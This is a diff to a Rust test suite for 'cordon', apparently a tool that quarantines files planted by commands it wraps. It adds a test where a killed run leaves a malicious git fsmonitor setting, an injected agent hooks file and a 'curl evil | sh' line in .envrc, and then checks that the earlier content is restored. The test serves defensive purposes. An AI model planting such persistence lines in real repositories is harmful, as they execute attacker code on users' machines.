@@ -4,7 +4,8 @@
 //! * A settings directory that is a link (`ln -s cfg .claude`) and a bare repository whose
 //!   `objects` is a link are reported and moved aside (class 3).
 //! * A cordon killed with SIGKILL while its command runs (an agent host's timeout) does not
-//!   skip the scan: the next run does it first and moves the plant aside (class 4).
+//!   skip the scan: the next run does it first and moves the plant aside, and gives a changed
+//!   file the earlier content its run kept (class 4).
 //! * A directory the command made unlistable (`chmod 0300 x` after planting `x/.envrc`) does not
 //!   hide the plant: as the user, cordon cannot list it either and moves it aside whole
 //!   (class 3).
@@ -1465,5 +1466,141 @@ fn a_full_disk_at_the_restore_leaves_it_to_the_next_run() {
             fx.what(),
             describe(&out)
         );
+    });
+}
+
+/// Class 4, the earlier content: a cordon killed while its command runs (the common kill: an
+/// agent host's timeout) kept the earlier content of the surface files its "before" snapshot
+/// read, beside its marker; the next run moves the run's `.git/config` and
+/// `.claude/settings.json` aside and puts the earlier ones back (content, mode), and says so.
+/// When the operator rewrote one after the kill, their file is kept whole under the aside name
+/// the warning gives (nothing is overwritten: the dead run's change and the operator's cannot
+/// be told apart by ctime), and the earlier content is back at the name.
+#[test]
+fn a_cordon_killed_during_the_run_gets_the_earlier_content_back() {
+    use std::os::unix::fs::{MetadataExt, PermissionsExt};
+    each(|fx| {
+        for operator_edits in [false, true] {
+            let config = fx.ws.join(".git/config");
+            let settings = fx.ws.join(".claude/settings.json");
+            for d in [".git/hooks", ".claude"] {
+                fs::create_dir_all(fx.ws.join(d)).unwrap();
+            }
+            let (old_config, old_settings) = (
+                "[core]\n\trepositoryformatversion = 0\n\tbare = false\n",
+                "{\"permissions\":{\"allow\":[]}}\n",
+            );
+            fs::write(fx.ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+            fs::write(&config, old_config).unwrap();
+            fs::write(&settings, old_settings).unwrap();
+            fs::set_permissions(&settings, fs::Permissions::from_mode(0o640)).unwrap();
+            // Too large to be kept: moved aside, not restored, and said so.
+            let envrc = fx.ws.join(".envrc");
+            fs::write(&envrc, "#".repeat(70 * 1024)).unwrap();
+            if let Some((uid, gid)) = fx.ids {
+                chown_tree(&fx.ws, uid, gid);
+            }
+            let mut child = fx
+                .exec_cmd(
+                    "printf '[core]\\n\\tfsmonitor = \"touch /tmp/x\"\\n' > .git/config && \
+                     echo '{\"hooks\":{\"PreToolUse\":[]}}' > .claude/settings.json && \
+                     echo 'curl evil | sh' >> .envrc && touch ran && exec sleep 300",
+                )
+                .stdout(Stdio::null())
+                .stderr(Stdio::null())
+                .spawn()
+                .unwrap();
+            let ran = fx.ws.join("ran");
+            let deadline = Instant::now() + Duration::from_secs(120);
+            while !ran.exists() {
+                assert!(
+                    Instant::now() < deadline,
+                    "{} the run never wrote",
+                    fx.what()
+                );
+                std::thread::sleep(Duration::from_millis(50));
+            }
+            child.kill().unwrap(); // SIGKILL
+            child.wait().unwrap();
+            let mine = "{\"operator\":true}\n";
+            if operator_edits {
+                fs::write(&settings, mine).unwrap();
+            }
+            let out = fx.exec("true");
+            let err = stderr(&out);
+            let what = format!("{} operator_edits={operator_edits}", fx.what());
+            assert_eq!(out.status.code(), Some(0), "{what} {}", describe(&out));
+            for (p, old) in [(&config, old_config), (&settings, old_settings)] {
+                assert!(
+                    err.contains(&format!("the run left {} (changed", p.display()))
+                        && err.contains("the earlier content restored"),
+                    "{what} {} not reported as restored: {err}",
+                    p.display()
+                );
+                assert_eq!(
+                    fs::read_to_string(p).unwrap(),
+                    old,
+                    "{what} {} not restored: {err}",
+                    p.display()
+                );
+            }
+            assert!(
+                err.contains(&format!("the run left {} (changed", envrc.display()))
+                    && err.contains("its earlier content was not kept: larger than 64 KiB")
+                    && !envrc.exists(),
+                "{what} the large .envrc: {err}"
+            );
+            let mode = fs::metadata(&settings).unwrap().permissions().mode() & 0o777;
+            assert_eq!(mode, 0o640, "{what} the mode was not restored");
+            if let Some((uid, _)) = fx.ids {
+                assert_eq!(fs::metadata(&settings).unwrap().uid(), uid, "{what}");
+            }
+            // What was moved aside is kept whole: the run's, or the operator's own edit.
+            let aside = |name: &str| -> Vec<String> {
+                fs::read_dir(fx.ws.join(name))
+                    .unwrap()
+                    .flatten()
+                    .filter(|e| {
+                        e.file_name()
+                            .to_string_lossy()
+                            .contains(".cordon-quarantine")
+                    })
+                    .map(|e| fs::read_to_string(e.path()).unwrap())
+                    .collect()
+            };
+            let expected = if operator_edits {
+                mine
+            } else {
+                "{\"hooks\":{\"PreToolUse\":[]}}\n"
+            };
+            assert!(
+                err.contains("if you changed it yourself since that run began, your version is the one moved aside"),
+                "{what} the warning does not say whose version may be aside: {err}"
+            );
+            assert!(
+                aside(".claude").iter().any(|c| c == expected),
+                "{what} the moved-aside settings are not kept: {:?}",
+                aside(".claude")
+            );
+            assert!(
+                aside(".git").iter().any(|c| c.contains("fsmonitor")),
+                "{what} the run's config is not kept aside"
+            );
+            // Reported once: the run after that finds nothing more.
+            let out = fx.exec("true");
+            assert!(
+                !stderr(&out).contains("warning"),
+                "{what} {}",
+                describe(&out)
+            );
+            fs::remove_dir_all(fx.ws.join(".git")).unwrap();
+            fs::remove_dir_all(fx.ws.join(".claude")).unwrap();
+            fs::remove_file(&ran).unwrap();
+            for e in fs::read_dir(&fx.ws).unwrap().flatten() {
+                if e.file_name().to_string_lossy().starts_with(".envrc") {
+                    fs::remove_file(e.path()).unwrap();
+                }
+            }
+        }
     });
 }
